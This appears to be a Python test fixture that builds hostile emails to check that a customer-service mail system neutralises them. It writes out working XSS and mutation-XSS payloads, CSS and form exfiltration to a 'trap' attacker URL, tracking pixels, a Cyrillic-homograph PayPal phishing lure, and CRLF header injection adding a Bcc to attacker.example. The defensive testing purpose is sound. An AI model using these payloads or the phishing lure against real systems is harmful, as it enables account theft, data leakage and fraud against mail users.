"""A corpus of hostile emails for tests/test_hostile_mail.py, built around a "trap" URL: the
attacker's server. Every payload, if it worked, would either run script (set
`window.__pwned`, open a dialog, or change the page title to PWNED) or make the browser
fetch something from the trap."""

from __future__ import annotations

import base64
from email import policy
from email.message import EmailMessage
from email.mime.application import MIMEApplication
from email.mime.multipart import MIMEMultipart
from email.mime.text import MIMEText

_B64_SCRIPT = base64.b64encode(b"<script>alert(1)</script>").decode()
RUN = "window.__pwned='{name}';document.title='PWNED';alert('{name}')"


def _html_payloads(trap: str) -> dict[str, str]:
    svg = (
        f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{RUN.format(name='svg-data')}\">"
        f"<script>{RUN.format(name='svg-data-script')}</script>"
        f"<image href='{trap}/svg-data-image'/></svg>"
    )
    svg64 = base64.b64encode(svg.encode()).decode()
    return {
        # --- script in every disguise
        "script-tag": f"<script>{RUN.format(name='script')}</script>",
        "script-src": f'<script src="{trap}/evil.js"></script>',
        "img-onerror": f'<img src="x" onerror="{RUN.format(name="onerror")}">',
        "body-onload": f'<body onload="{RUN.format(name="onload")}"><p>hi</p></body>',
        "svg-onload": f'<svg onload="{RUN.format(name="svg-onload")}"><circle r="5"/></svg>',
        "svg-script": f"<svg><script>{RUN.format(name='svg-script')}</script></svg>",
        "javascript-links": (
            f'<a href="javascript:{RUN.format(name="js-link")}">one</a>'
            '<a href="&#106;avascript:alert(1)">two</a>'
            '<a href=" JaVaScRiPt:alert(2)">three</a>'
            '<a href="vbscript:msgbox(1)">four</a>'
        ),
        "data-html": (
            '<a href="data:text/html,<script>alert(1)</script>">data link</a>'
            f'<iframe src="data:text/html;base64,{_B64_SCRIPT}"></iframe>'
        ),
        "iframe-srcdoc": f'<iframe srcdoc="<script>{RUN.format(name="srcdoc")}</script>"></iframe>',
        "object-embed": (
            f'<object data="{trap}/object.swf"></object><embed src="{trap}/embed.swf">'
            f'<applet code="{trap}/applet"></applet>'
        ),
        "form-autofocus": (
            f'<form action="{trap}/steal"><input name="p" autofocus '
            f'onfocus="{RUN.format(name="onfocus")}"><button formaction="javascript:alert(1)">'
            "Go</button></form>"
        ),
        "mxss-noscript": (
            '<noscript><p title="</noscript><img src=x '
            f'onerror={RUN.format(name="mxss-noscript").replace(" ", "")}>"></noscript>'
        ),
        "mxss-svg-style": (
            '<svg></p><style><a id="</style><img src=1 '
            f'onerror={RUN.format(name="mxss-style").replace(" ", "")}>"></svg>'
        ),
        "mxss-math": (
            "<math><mtext><table><mglyph><style><img src=x "
            f"onerror={RUN.format(name='mxss-math').replace(' ', '')}></style></mglyph>"
            "</table></mtext></math>"
        ),
        "template": f'<template><img src=x onerror="{RUN.format(name="template")}"></template>',
        "meta-refresh": f'<meta http-equiv="refresh" content="0;url={trap}/refresh">',
        "base-href": f'<base href="{trap}/"><img src="relative.png"><a href="rel">rel</a>',
        "event-attributes": (
            f'<div onmouseover="{RUN.format(name="mouseover")}" '
            f'onclick="{RUN.format(name="click")}">hover me</div>'
            f'<details open ontoggle="{RUN.format(name="ontoggle")}"><summary>x</summary></details>'
        ),
        # --- CSS exfiltration
        "style-tag": (
            f"<style>@import url({trap}/import.css); body{{background:url({trap}/css-bg)}}"
            f' input[value^="a"]{{background:url({trap}/leak-a)}}</style><input value="abc">'
        ),
        "style-attribute": f'<div style="background-image:url({trap}/style-attr)">styled</div>',
        "link-stylesheet": f'<link rel="stylesheet" href="{trap}/link.css"><p>linked</p>',
        "font-face": (
            f"<style>@font-face{{font-family:x;src:url({trap}/font.woff)}} p{{font-family:x}}"
            "</style><p>font</p>"
        ),
        # --- tracking pixels and remote images
        "tracking-pixel": f'<img src="{trap}/pixel.gif" width="1" height="1" alt="">',
        "remote-image": f'<img src="{trap}/photo.jpg" alt="A photo of the bin">',
        "srcset-picture": (
            f'<img srcset="{trap}/srcset.png 1x" alt="s"><picture>'
            f'<source srcset="{trap}/source.png"><img src="{trap}/picture.png" alt="p"></picture>'
        ),
        "background-attributes": (
            f'<body background="{trap}/body-bg"><table background="{trap}/table-bg">'
            f'<tr><td background="{trap}/td-bg">cell</td></tr></table></body>'
        ),
        "media": (
            f'<video poster="{trap}/poster.png" src="{trap}/video.mp4" autoplay></video>'
            f'<audio src="{trap}/audio.mp3" autoplay></audio>'
        ),
        "svg-remote-image": f'<svg><image href="{trap}/svg-image.png"/></svg>',
        "svg-data-image": f'<img src="data:image/svg+xml;base64,{svg64}" alt="svg">',
        "prefetch": (
            f'<link rel="prefetch" href="{trap}/prefetch"><link rel="preload" href="{trap}/preload"'
            f' as="image"><link rel="dns-prefetch" href="{trap}">'
        ),
        "dangling-markup": f"<p>before</p><img src='{trap}/dangle?",
    }


def _email(
    name: str, html: str, sender: str = "Mallory <mallory@example.net>", utf8: bool = False
) -> bytes:
    msg = EmailMessage()
    msg["From"] = sender
    msg["To"] = "customerservices@example.org"
    msg["Subject"] = f"Hostile {name}"
    msg["Message-ID"] = f"<hostile-{name}@example.net>"
    msg.set_content(f"Please read the formatted part ({name}).")
    msg.add_alternative(
        f"<html><head><title>PWNED</title></head><body><p>Payload {name}.</p>{html}</body></html>",
        subtype="html",
    )
    # SMTPUTF8 mail carries a non-ASCII address as raw UTF-8, as a sending server would.
    return msg.as_bytes(policy=policy.SMTPUTF8) if utf8 else msg.as_bytes()


def _mhtml(trap: str) -> bytes:
    """MHTML: a multipart/related page whose parts claim remote Content-Locations, plus a
    saved .mht web page with script attached."""
    related = MIMEMultipart("related", type="text/html")
    page = MIMEText(
        f'<html><body><p>Payload mhtml.</p><img src="{trap}/related.png">'
        f'<script src="{trap}/related.js"></script>'
        f"<script>{RUN.format(name='mhtml')}</script></body></html>",
        "html",
    )
    page["Content-Location"] = f"{trap}/page.html"
    related.attach(page)
    image = MIMEApplication(b"GIF89a", "octet-stream")
    image["Content-Location"] = f"{trap}/related.png"
    related.attach(image)
    saved = MIMEMultipart("related")
    saved.attach(MIMEText(f"<script>{RUN.format(name='mht-file')}</script>", "html"))
    attachment = MIMEApplication(saved.as_bytes(), "octet-stream")
    attachment.replace_header("Content-Type", "multipart/related")
    attachment.add_header("Content-Disposition", "attachment", filename="statement.mht")
    svg = MIMEApplication(
        f"<svg xmlns='http://www.w3.org/2000/svg'><script>{RUN.format(name='svg-file')}"
        f"</script><image href='{trap}/svg-file'/></svg>".encode(),
        "octet-stream",
    )
    svg.replace_header("Content-Type", "image/svg+xml")
    svg.add_header("Content-Disposition", "attachment", filename="invoice.svg")
    html_file = MIMEText(f"<script>{RUN.format(name='html-file')}</script>", "html")
    html_file.add_header("Content-Disposition", "attachment", filename="invoice.html")
    outer = MIMEMultipart("mixed")
    outer.attach(related)
    outer.attach(attachment)
    outer.attach(svg)
    outer.attach(html_file)
    outer["From"] = "Mallory <mallory@example.net>"
    outer["To"] = "customerservices@example.org"
    outer["Subject"] = "Hostile mhtml"
    outer["Message-ID"] = "<hostile-mhtml@example.net>"
    return outer.as_bytes()


HOMOGRAPH_SENDER = "service@p\u0430ypal.com"  # a Cyrillic "а"
HOMOGRAPH_PUNYCODE = "xn--pypal-4ve.com"


def _homograph() -> bytes:
    return _email(
        "homograph",
        '<p>Your account is locked. <a href="https://p\u0430ypal.com/login">'
        "https://paypal.com/login</a></p>",
        sender=f"PayPal <{HOMOGRAPH_SENDER}>",
        utf8=True,
    )


def _markup_in_headers() -> bytes:
    """Script in the subject and the sender's name: shown on triage, case lists, case pages."""
    msg = EmailMessage()
    msg["From"] = (
        f'"<img src=x onerror={RUN.format(name="name").replace(" ", "")}>" <x@example.net>'
    )
    msg["To"] = "customerservices@example.org"
    msg["Subject"] = f"Hostile subject <script>{RUN.format(name='subject')}</script>"
    msg["Message-ID"] = "<hostile-headers@example.net>"
    msg.set_content(f"<script>{RUN.format(name='text-body')}</script> in the plain text body.")
    return msg.as_bytes()


def hostile_corpus(trap: str) -> dict[str, bytes]:
    """name → raw email; every one should open a case."""
    corpus = {name: _email(name, html) for name, html in _html_payloads(trap).items()}
    corpus["mhtml"] = _mhtml(trap)
    corpus["homograph"] = _homograph()
    corpus["markup-in-headers"] = _markup_in_headers()
    return corpus


def header_injection() -> bytes:
    """Encoded words that decode to CR LF + a header of the sender's choosing."""
    return (
        b"From: =?utf-8?q?Pat=0D=0ABcc=3A_evil=40attacker=2Eexample?= <pat@example.net>\r\n"
        b"To: customerservices@example.org\r\n"
        b"Subject: =?utf-8?q?Missed_bin=0D=0ABcc=3A_evil2=40attacker=2Eexample=0D=0A=0D=0A"
        b"fake_body?=\r\n"
        b"Message-ID: <inj-1@example.net>\r\n"
        b"Content-Type: text/plain; charset=utf-8\r\n\r\n"
        b"I am very unhappy, my bin was not collected.\r\n"
    )
